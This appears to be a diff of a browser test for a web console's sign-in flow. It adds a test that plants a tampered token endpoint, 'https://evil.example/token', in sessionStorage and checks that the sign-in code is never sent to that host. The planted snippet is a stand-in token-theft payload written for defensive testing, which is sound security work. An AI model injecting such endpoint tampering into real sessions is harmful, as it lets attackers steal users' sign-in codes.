@@ -3,12 +3,17 @@
 // of the disk could find it. Risk: a key or a session falls into the hands of an extension, a proxy or the next person
 // at the machine.
 import { describe, expect, it } from 'vitest';
-import { untilShown } from '../harness/console/sign-in.ts';
+import { sessionTexts } from '../../console/texts/session.ts';
+import { signIn, untilShown } from '../harness/console/sign-in.ts';
 import { access, missing, openOwnCompany, revisit, storedBy, visit } from './open-console.ts';
 
 await openOwnCompany();
 
 const FOREIGN = 'https://evil.example';
+// Replaces where the code of the sign-in that has begun in a window is redeemed.
+const PLANT = `const kept = JSON.parse(sessionStorage.getItem('sign-in-at'));
+  kept.metadata.token_endpoint = '${FOREIGN}/token';
+  sessionStorage.setItem('sign-in-at', JSON.stringify(kept));`;
 const ANNOUNCED = {
   origin: FOREIGN,
   'access-control-request-method': 'GET',
@@ -114,6 +119,28 @@ describe.skipIf(missing !== null)('in the browser', () => {
     expect(kept).toEqual(['']);
     const inThisWindow = await page.evaluate<string>('Object.keys(sessionStorage).toSorted().join()');
     expect(inThisWindow).toMatch(/^sign-in-at,sign-in\.[^,]+$/);
+    await context?.close();
+    await person.end();
+  });
+
+  it('the code of a sign-in goes to no other host, even if the kept endpoints name one', async () => {
+    const person = await revisit('administrator');
+    const context = await person.page.context().browser()?.newContext();
+    const page = (await context?.newPage()) ?? person.page;
+    await page.goto(access().url);
+    await page.getByLabel('Password').waitFor();
+    const issuer = page.url();
+    await page.goto(`${access().url}config.json`);
+    await page.evaluate(PLANT);
+    await page.goto(issuer);
+    const asked: string[] = [];
+    await page.route(`${FOREIGN}/**`, (route) => {
+      asked.push(route.request().method());
+      return route.fulfill({ json: {} });
+    });
+    await signIn(page, access(), 'administrator');
+    await page.getByRole('button', { name: sessionTexts.tryAgain }).waitFor();
+    expect(asked).toEqual([]);
     await context?.close();
     await person.end();
   });
